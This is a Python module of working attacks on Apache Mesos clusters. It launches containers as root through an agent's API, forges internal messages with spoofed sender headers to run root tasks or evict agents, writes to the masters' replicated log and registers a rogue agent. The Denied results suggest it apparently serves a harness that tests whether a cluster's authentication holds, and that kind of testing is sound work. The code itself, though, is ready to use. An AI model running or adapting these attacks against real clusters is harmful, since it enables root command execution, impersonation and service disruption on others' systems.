"""Attacks on Mesos: as an operator, as a framework, as a master, as an agent, as a member of the log."""

from __future__ import annotations

import os
import re
import signal
import socket
import subprocess
import tempfile
import time
from http.server import BaseHTTPRequestHandler, HTTPServer

from .outcome import Denied, of_connection
from .wire import TIMEOUT_S, accepted, ask, login_of, message

MASTER_PORT, AGENT_PORT = 5050, 5051
REGISTERED_S = 12.0
AGENT = "/usr/sbin/mesos-agent"
LAUNCHER: list[str] = []  # where the package is not installed


def container(at: str, command: str) -> str:
    """A container outside of tasks, as root; ``at`` is an agent."""
    amounts = (("cpus", 0.1), ("mem", 32))
    launch = {
        "container_id": {"value": f"attack-{os.getpid()}"},
        "command": {"value": command, "shell": True, "user": "root"},
        "resources": [{"name": name, "type": "SCALAR", "scalar": {"value": value}} for name, value in amounts],
    }
    body = {"type": "LAUNCH_CONTAINER", "launch_container": launch}
    return accepted(ask((at, AGENT_PORT), "POST", "/api/v1", body))


def framework(at: str, role: str, user: str, claims: str = "", login: str = "") -> str:
    """A framework at the leading master.

    Args:
        claims: the principal that it says to be.
        login: whose credential it proves itself by (``login_of``).
    """
    login = login_of(login)
    info = {"user": user, "name": "attack", "roles": [role], "capabilities": [{"type": "MULTI_ROLE"}]}
    if claims or login:
        info["principal"] = claims or login.partition(":")[0]
    body = {"type": "SUBSCRIBE", "subscribe": {"framework_info": info}}
    told = accepted(ask((at, MASTER_PORT), "POST", "/api/v1/scheduler", body, login=login))
    if '"SUBSCRIBED"' not in told:
        said = re.search(r'"message":"([^"]*)"', told)
        raise Denied("error event", said[1] if said else told)
    return told


def operator(at: str, path: str, port: int = MASTER_PORT, login: str = "") -> str:
    """An answer that operators get."""
    return accepted(ask((at, port), "GET", path, login=login_of(login)))


def drain(at: str, agent_id: str, login: str = "") -> str:
    """An order that operators give, for an agent that isn't there."""
    body = {"type": "DRAIN_AGENT", "drain_agent": {"agent_id": {"value": agent_id}}}
    status, told = ask((at, MASTER_PORT), "POST", "/api/v1", body, login=login_of(login))
    if status == 400:  # it was taken for an operator's, and there is no such agent
        return told
    return accepted((status, told))


def forged_task(at: str, master: str, agent_id: str, command: str) -> str:
    """A task as root, "from" the leading master, to an agent."""

    def scalar(name: str, value: float) -> bytes:
        return message((1, name), (2, 0), (3, message((1, value))), (6, "*"), (11, message((1, "*"))))

    name = f"forged-{os.getpid()}"  # a task of a name that an agent has ends the agent
    task = message(
        (1, "forged"),
        (2, message((1, name))),
        (3, message((1, agent_id))),
        (4, scalar("cpus", 0.1)),
        (4, scalar("mem", 32.0)),
        (7, message((3, command), (5, "root"))),
    )
    info = message((1, "root"), (2, "forged"), (3, message((1, name))))
    body = message((2, info), (3, ""), (4, task), (6, 1))
    return _send(at, AGENT_PORT, "slave(1)", "RunTaskMessage", body, f"master@{master}:{MASTER_PORT}")


def forged_farewell(at: str, agent: str, agent_id: str) -> str:
    """Throws an agent out, "from" it, at the leading master."""
    body = message((1, message((1, agent_id))))
    return _send(at, MASTER_PORT, "master", "UnregisterSlaveMessage", body, f"slave(1)@{agent}:{AGENT_PORT}")


def log_write(at: str, own: str, port: int) -> str:
    """A write of the masters' replicated log, of a proposal that is too old to change anything.

    A replica that takes it answers to its sender, so to ``own`` and ``port``; that answer is the evidence.
    """
    heard: list[str] = []

    class Answers(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length", 0)))
            heard.append(self.path)
            self.send_response(202)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            """Says nothing."""

    with HTTPServer((own, port), Answers) as server:
        server.timeout = 1
        write = message((1, 0), (2, 1 << 40), (4, 1), (5, b""))  # proposal, position, NOP
        told = _send(at, MASTER_PORT, "log-replica(1)", "log.WriteRequest", write, f"attack@{own}:{port}")
        deadline = time.monotonic() + TIMEOUT_S
        while not heard and time.monotonic() < deadline:
            server.handle_request()
    if not any("WriteResponse" in path for path in heard):
        raise Denied("unanswered", f"{told}; heard {heard}")
    return f"{told}; answered by {heard[0]}"


def rogue_agent(at: str, own: str, port: int, role: str, credential: str = "") -> str:
    """A program of one's own that offers resources reserved for ``role`` to the leading master.

    A master that refuses it says why in its own log only.
    """
    try:
        socket.create_connection((at, MASTER_PORT), TIMEOUT_S).close()
    except OSError as error:
        raise of_connection(error) from error
    clean = {name: value for name, value in os.environ.items() if not name.startswith(("MESOS_", "LIBPROCESS_"))}
    with tempfile.TemporaryDirectory(prefix="rogue-") as work, tempfile.TemporaryFile("w+") as log:
        argv = [
            AGENT,
            *LAUNCHER,
            f"--master={at}:{MASTER_PORT}",
            f"--ip={own}",
            f"--port={port}",
            "--hostname=rogue",
            f"--work_dir={work}/work",
            f"--runtime_dir={work}/run",
            "--launcher=posix",
            "--isolation=posix/cpu,posix/mem",
            "--no-systemd_enable_support",
            "--no-switch_user",
            f"--default_role={role}",
            "--resources=cpus:1;mem:64;disk:64;ports:[31990-31991]",
            *([f"--credential={credential}"] if credential and os.path.exists(credential) else []),  # noqa: PTH110
        ]
        agent = subprocess.Popen(argv, env=clean, stdin=subprocess.DEVNULL, stdout=log, stderr=log)
        try:
            return _registered(agent, log.fileno())
        finally:
            agent.send_signal(signal.SIGUSR1)  # it takes its leave
            try:
                agent.wait(10)
            except subprocess.TimeoutExpired:
                agent.kill()
                agent.wait()


def _registered(agent: subprocess.Popen[bytes], log: int) -> str:
    deadline = time.monotonic() + REGISTERED_S
    while True:
        lines = os.pread(log, 1 << 20, 0).decode(errors="replace").splitlines()
        for line in lines:
            if "Registered with master" in line:
                return line
        if agent.poll() is not None or time.monotonic() > deadline:
            raise Denied("unregistered", "\n".join(lines[-3:]))
        time.sleep(0.2)


def _send(at: str, port: int, process: str, name: str, body: bytes, sender: str) -> str:
    headers = {"Libprocess-From": sender, "Content-Type": "application/octet-stream"}
    return accepted(ask((at, port), "POST", f"/{process}/mesos.internal.{name}", body, headers=headers))
